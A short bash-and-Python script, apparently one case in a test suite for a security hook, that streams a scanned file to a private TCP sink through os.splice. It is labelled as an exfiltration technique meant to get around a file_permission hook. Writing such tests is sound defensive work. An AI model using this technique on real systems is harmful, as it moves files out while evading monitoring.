#!/usr/bin/env bash
# technique: splice from a pipe to a connected socket
# hooks: file_permission
# sink: private-tcp

. attack.sh
python3 - <<'PY'
from attack import *

with socket.create_connection(TCP, 5) as sink:
    sink.settimeout(None)
    source = os.open(SCAN, os.O_RDONLY)
    reader, writer = os.pipe()
    while size := os.splice(source, writer, 1 << 16):
        while size:
            size -= os.splice(reader, sink.fileno(), size)
PY
